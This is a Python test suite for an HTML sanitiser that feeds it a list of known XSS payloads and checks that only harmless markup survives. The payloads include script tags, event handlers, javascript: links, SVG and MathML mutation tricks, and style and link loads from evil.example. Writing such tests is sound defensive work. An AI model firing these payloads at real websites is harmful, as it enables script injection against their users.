"""The one sanitiser: nothing that runs, loads or styles comes through, and no words are lost."""

import pytest
from hypothesis import given
from hypothesis import strategies as st
from justhtml import Element, JustHTML
from markupsafe import escape

from cpwb.core.sanitising import TAGS, clean_html, plain_text, rich_text

#: Attacks from the OWASP cheat sheet and from what was found against sanitisers since (mutation, foreign content).
ATTACKS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='x' onerror='alert(1)'//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text>x</text></a></svg>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href='javascript:alert(1)//'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='></object>",
    "<embed src='javascript:alert(1)'>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='/account/logout'>x</a>",
    "<a href='https://example.com' onclick='alert(1)' style='position:fixed' target=_blank>x</a>",
    "<div style='background:url(javascript:alert(1))' class=part id=main>x</div>",
    "<p onmouseover=alert(1)>x",
    "<input autofocus onfocus=alert(1)>",
    "<form action='//evil.example'><button>x</button></form>",
    "<textarea><img src=x onerror=alert(1)></textarea>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<figure data-trix-attachment='{\"content\":\"<img src=x onerror=alert(1)>\"}'></figure>",
    "<p><p><li></ol><blockquote><a href=https://example.com><script>alert(1)",
    "\u202e<b>txt.exe</b>",
    "\x00<scr\x00ipt>alert(1)</scr\x00ipt>",
)  # fmt: skip
PIECES = st.sampled_from(
    [
        *ATTACKS,
        "<p style='mso-list:l0'>",
        "<![if !supportLists]>1.<![endif]>",
        "<table><tr><td>",
        "</td>",
        "<th>",
        "<b>",
        "<h2>",
        "<div>",
        "</div>",
        "<ul><li>",
        "</p>",
        "<a href=",
        "'",
        '"',
        ">",
        "<",
        "<!--",
        "-->",
        "&lt;",
        "&#60;",
        "x",
    ]
)
JUNK = st.lists(st.one_of(PIECES, st.text(st.characters(exclude_categories=["Cs"]), max_size=12)), max_size=8).map(
    "".join
)


def assert_harmless(html: str) -> None:
    """Fail when a browser would make anything of `html` but words, structure and outward links."""
    document = JustHTML(html, fragment=True, sanitize=False)
    for element in document.query("*"):
        if not isinstance(element, Element):
            continue
        assert element.name in TAGS, html
        assert set(element.attrs) <= ({"href", "rel"} if element.name == "a" else set()), html
        if "href" in element.attrs:
            scheme = (element.attrs["href"] or "").split(":")[0].lower()
            assert scheme in {"http", "https", "mailto"}, html


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_leaves_only_words(attack: str) -> None:
    """Nothing runs, loads, styles or leads through our own pages."""
    assert_harmless(clean_html(attack))


@given(JUNK)
def test_whatever_is_put_together_is_harmless_and_stays_as_it_is(html: str) -> None:
    """Cleaning twice is cleaning once: what is stored is what is shown."""
    once = clean_html(html)
    assert_harmless(once)
    assert clean_html(once) == once


@given(st.text(st.characters(exclude_categories=["Cc", "Cs", "Zl", "Zp"])))
def test_no_words_are_lost(text: str) -> None:
    """What was typed as words is read as the same words, whatever they look like."""
    assert plain_text(clean_html(f"<div>{escape(text)}</div>")) == text.strip()


def test_what_the_editor_writes_stays() -> None:
    """Every tag that Trix makes comes back as it was."""
    written = (
        "<h1>Kop</h1><div>Vet <strong>b</strong>, schuin <em>i</em>, <del>weg</del><br>nieuw</div>"
        "<blockquote>q</blockquote><pre>code</pre><ul><li>a<ul><li>b</li></ul></li></ul><ol><li>1</li></ol>"
        "<p>é &amp; &lt;b&gt; 𝓐 שלום</p>"
    )
    assert clean_html(written) == written


@pytest.mark.parametrize("address", ["https://unia.be/nl?a=1&amp;b=2#c", "http://example.com", "mailto:x@test.example"])
def test_links_outward_stay(address: str) -> None:
    """Links keep their address and tell the other site nothing."""
    assert clean_html(f'<a href="{address}">x</a>') == f'<a href="{address}" rel="noopener noreferrer">x</a>'


def test_a_link_within_our_pages_goes() -> None:
    """A note cannot lure its reader into an act on our own pages, or to a host named by two slashes."""
    assert clean_html('<a href="/account/logout">x</a>') == '<a rel="noopener noreferrer">x</a>'


def test_plain_text_puts_each_block_on_a_line_of_its_own() -> None:
    """The words of notes in a mail or a search read as they were written."""
    html = "<h1>Kop</h1><div>een<br>twee&nbsp;&amp; drie</div><ul><li>a</li><li>b<p>c</p></li></ul><p> </p>"
    assert plain_text(html) == "Kop\neen\ntwee\u00a0& drie\na\nb\nc"


def test_plain_text_keeps_what_looks_like_a_tag() -> None:
    """Somebody who writes about <b> is quoted as written."""
    assert plain_text("<p>1 &lt; 2 en &lt;b&gt;</p>") == "1 < 2 en <b>"


@given(st.text())
def test_plain_words_become_a_block_and_back(text: str) -> None:
    """Every line is kept, nothing of it is read as a tag, and the sanitiser finds nothing to take away."""
    html = rich_text(text)
    assert clean_html(html) == html or any(sign in text for sign in "\x00\xa0")
    words = [" ".join(line.split()) for line in text.strip().splitlines()]
    shown = [" ".join(line.split()) for line in plain_text(html).splitlines()]
    assert shown == [line for line in words if line] or "\x00" in text


#: As Word puts it on the clipboard: a list, a numbered one, a table, empty paragraphs and its own tags.
WORD = """<html xmlns:o="urn:schemas-microsoft-com:office:office"><head><style><!-- p.MsoNormal {margin:0cm} --></style>
</head><body lang=NL-BE><p class=MsoNormal><b><span lang=NL>Aanwezig:</span></b> de wijkwerking<o:p></o:p></p>
<p class=MsoListParagraphCxSpFirst style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><![if !supportLists]><span
style='font-family:Symbol;mso-list:Ignore'>·<span
style='font:7.0pt "Times New Roman"'>&nbsp; </span></span><![endif]>eerste punt<o:p></o:p></p>
<p class=MsoListParagraphCxSpLast style='text-indent:-18.0pt;mso-list:l0 level1 lfo1'><!--[if !supportLists]-->
<span style='mso-list:Ignore'>·<span>&nbsp;</span></span><!--[endif]-->tweede <i>punt</i></p>
<p class=MsoListParagraph style='mso-list:l1 level1 lfo2'><![if !supportLists]><span
style='mso-list:Ignore'>1.<span>&nbsp;</span></span><![endif]>genummerd</p>
<table class=MsoTableGrid border=1><tr><td width=300 valign=top><p class=MsoNormal>Actie</p></td><td><p
class=MsoNormal>Wie</p></td></tr><tr><td><p>Brief sturen<br>vandaag</p></td><td><p>O&#8217;Brien &amp; co</p></td></tr>
</table>
<p class=MsoNormal>Einde</p></body></html>"""


def test_what_word_writes_is_readable() -> None:
    """Bold, lists and the cells of tables stay what they are; what only Word knows goes."""
    clean = clean_html(WORD)
    assert [" ".join(line.split()) for line in plain_text(clean).splitlines()] == [
        "Aanwezig: de wijkwerking",
        "eerste punt",
        "tweede punt",
        "genummerd",
        "Actie | Wie",
        "Brief sturen vandaag | O\u2019Brien & co",
        "Einde",
    ]
    assert "<strong>Aanwezig:</strong>" in clean
    assert "<ul><li>eerste punt</li>\n<li>tweede <em>punt</em></li>\n</ul><ol><li>genummerd</li>" in clean
    assert_harmless(clean)


@pytest.mark.parametrize(
    ("pasted", "clean"),
    [
        ("<h2>Kop</h2><h3>Onder</h3>tekst", "<h1>Kop</h1><h1>Onder</h1>tekst"),
        ("<B class=x>vet</B> <i>schuin</i> <s>weg</s>", "<strong>vet</strong> <em>schuin</em> <del>weg</del>"),
        ("<table><thead><tr><th>a<th>b</tr></thead><tr><td>1</td><td></td></tr></table>",
         "<div>a | b</div><div>1 | </div>"),
        ("<table><tr><td><ul><li>x</li></ul></td><td>y</td></tr></table>", "<div>  x   | y</div>"),
        ("<dl><dt>woord<dd>uitleg</dl>", "<div>woord<div>uitleg</div></div>"),
        ("<p style='mso-list:l0'>een<p>twee", "<ul><li>een<p>twee</p></li></ul>"),
        ("<p>\u202bשלום\u202c مرحبا 🙂 \u200d👩‍🌾</p>", "<p>\u202bשלום\u202c مرحبا 🙂 \u200d👩‍🌾</p>"),
    ],
)  # fmt: skip
def test_what_web_pages_write_is_readable(pasted: str, clean: str) -> None:
    """Cells and headings do not run together; other scripts and emoji stay as they are."""
    assert clean_html(pasted) == clean
    assert clean_html(clean) == clean
